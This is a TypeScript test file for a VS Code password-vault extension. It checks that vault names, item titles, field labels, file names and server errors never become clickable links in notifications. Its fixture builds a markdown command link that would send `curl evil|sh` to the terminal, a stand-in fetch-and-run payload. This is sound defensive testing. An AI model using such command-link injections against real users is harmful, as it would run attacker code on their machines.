// Untrusted text (item titles, field labels, vault names, file names, server names, a server's error) never becomes a link in a notification.
import { readdir, readFile } from "node:fs/promises";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { copyValue } from "../../vscode-extension/src/commands/itemActions.js";
import { pickItem } from "../../vscode-extension/src/commands/pickItem.js";
import { previewWithSecrets } from "../../vscode-extension/src/commands/previewWithSecrets.js";
import { PreviewDocuments } from "../../vscode-extension/src/commands/previewDocuments.js";
import { guard, withNotificationProgress } from "../../vscode-extension/src/commands/run.js";
import { describeResolution } from "../../vscode-extension/src/editor/hoverProvider.js";
import { inert, notice } from "../../vscode-extension/src/notice.js";
import { createShareLinkFlow } from "../../vscode-extension/src/sharing/createShareLink.js";
import { StructureCache } from "../../vscode-extension/src/sources/structureCache.js";
import { ItemsTreeProvider } from "../../vscode-extension/src/tree/ItemsTreeProvider.js";
import type { FieldNode } from "../../vscode-extension/src/tree/nodes.js";
import { startTestConnect, type TestConnect } from "./helpers/connect.js";
import { createFakeSdk } from "./helpers/fakeSdk.js";
import { connectEnv, createTestRegistry } from "./helpers/registry.js";
import * as vscode from "./stand-in/vscode.js";

const { standIn } = vscode;

/** How VS Code finds links in a notification's text (src/vs/base/common/linkedText.ts). */
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const attack = (text: string) =>
  `[${text}](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)`;
const links = (text: string) => [...text.matchAll(LINK)].map((match) => match[0]);

const hostileSeed = {
  vaults: [
    {
      id: "vvvvvvvvvvvvvvvvvvvvvvvvv9",
      name: attack("Vault"),
      items: [
        {
          id: "iiiiiiiiiiiiiiiiiiiiiiiii9",
          title: attack("Title"),
          category: "LOGIN",
          fields: [
            { id: "password", type: "CONCEALED", purpose: "PASSWORD", label: attack("Label"), value: "v" },
          ],
        },
      ],
    },
  ],
};

let server: TestConnect;
beforeAll(async () => {
  server = await startTestConnect({ seed: hostileSeed });
});
afterAll(async () => {
  await server.close();
});
beforeEach(() => standIn.reset());

/** Every notification and progress title shown so far, as VS Code would render them. */
function shownText(): string[] {
  return [
    ...standIn.state.notifications.map((n) => n.message),
    ...standIn.state.progress.map((p) => p.title ?? ""),
  ];
}

test("inert keeps the text as it reads, breaks every link, and changes nothing more when applied twice", () => {
  const text = `Copied "${attack("Title")}"`;
  expect(links(text)).toHaveLength(1);
  expect(links(inert(text))).toEqual([]);
  expect(inert(text).replace(/\u200b/g, "")).toBe(text);
  expect(inert(inert(text))).toBe(inert(text));
  expect(inert("plain words (and parentheses) [and brackets]")).toBe(
    "plain words (and parentheses) [and brackets]",
  );
});

test("notice makes a link that two values (or a value and the text) would form together inert", () => {
  const split = notice`Copied the value of "${"[Run"}" from "${"](command:x)"}".`;
  expect(links(split.replace(/"/g, ""))).toEqual([]);
  expect(notice`${"[Run]"}(command:x)`).not.toMatch(/\]\(/);
});

test("field label, item title and vault name from a shared vault: Copy Value's notices hold no link", async () => {
  const registry = createTestRegistry(connectEnv(server));
  const provider = new ItemsTreeProvider(registry, vscode.window.createOutputChannel("test", { log: true }));
  const [vault] = await provider.getChildren();
  expect(String(vault!.label)).toContain("(command:");
  const [item] = await provider.getChildren(vault);
  const [field] = (await provider.getChildren(item)) as FieldNode[];
  standIn.answer({ message: "Copy Value" });
  await copyValue(field!);
  const shown = shownText();
  expect(shown.some((text) => text.includes("Label"))).toBe(true);
  expect(shown.some((text) => text.includes("Title"))).toBe(true);
  expect(shown.flatMap(links)).toEqual([]);
  registry.dispose();
});

test("a server named by workspace settings, and its URL: the problem notice holds no link", async () => {
  standIn.setSetting("opBridge.connect.servers", [
    { name: attack("Server"), serverUrl: `https://evil.example/${attack("path")}` },
  ]);
  const registry = createTestRegistry(connectEnv(server));
  standIn.answer({ quickPick: attack("Title") });
  await pickItem(registry).catch(() => undefined);
  const warnings = standIn.messages("warning");
  expect(warnings.join("\n")).toContain("Server");
  expect(warnings.flatMap(links)).toEqual([]);
  registry.dispose();
});

test("a file name: Preview with Secrets' notice holds no link", async () => {
  standIn.openEditor("no references here", "plaintext", `/tmp/${attack("file")}.env`);
  const registry = createTestRegistry({});
  const cache = new StructureCache(registry);
  const documents = new PreviewDocuments();
  await previewWithSecrets({ cache, documents });
  expect(standIn.messages("info")[0]).toMatch(/holds no op:\/\/ secret references/);
  expect(shownText().flatMap(links)).toEqual([]);
  cache.dispose();
  documents.dispose();
});

test("an item title in a share link's notice and its progress title hold no link", async () => {
  const fake = createFakeSdk({}, { title: attack("Shared") });
  const registry = createTestRegistry({}, { loadSdk: async () => fake.client });
  await registry.signInSdk({ serviceAccountToken: "ops_valid" });
  standIn.answer(
    { quickPick: attack("Shared") },
    { quickPick: "7 days" },
    { quickPick: "Many views" },
    { input: "" },
  );
  await createShareLinkFlow(registry);
  const shown = shownText();
  expect(shown.some((text) => text.includes("Shared"))).toBe(true);
  expect(shown.flatMap(links)).toEqual([]);
});

test("an error that carries untrusted text (a server's words, a title) is shown without a link", async () => {
  const log = vscode.window.createOutputChannel("test", { log: true });
  await guard(log, "test", async () => {
    throw new Error(`The server said: ${attack("Re-enter your token")}`);
  })();
  await withNotificationProgress(`Reading "${attack("Title")}"…`, async () => undefined);
  const [error] = standIn.messages("error");
  expect(error).toContain("Re-enter your token");
  expect(shownText().flatMap(links)).toEqual([]);
});

test("a hover shows an item title and vault name as text, never as a link", () => {
  const hover = describeResolution("op://v/i/f", {
    status: "resolved",
    located: {
      vault: { id: "v", name: attack("Vault") },
      item: { summary: { id: "i", title: attack("Title"), category: "LOGIN" } },
      field: { id: "f", label: attack("Label"), type: "STRING" },
    },
  } as never);
  const rendered = hover.value.replace(/\\(.)/g, "\u0000$1");
  // Only the hover's own "Open in 1Password app" link is left; escaped brackets are not links.
  expect(links(rendered).map((link) => link.slice(0, 26))).toEqual(["[$(link-external) Open in "]);
});

test("no notification in the extension's source is written as a bare template string (each goes through notice)", async () => {
  const root = new URL("../../vscode-extension/src/", import.meta.url);
  const files = (await readdir(root, { recursive: true })).filter((name) => name.endsWith(".ts"));
  const bare: string[] = [];
  for (const name of files) {
    const text = await readFile(new URL(name, root), "utf8");
    for (const match of text.matchAll(/show(?:Information|Warning|Error)Message\(\s*(?:[^`"'()]*\?\s*)?`/g)) {
      bare.push(`${name}: ${match[0]}`);
    }
  }
  expect(files.length).toBeGreaterThan(20);
  expect(bare).toEqual([]);
});
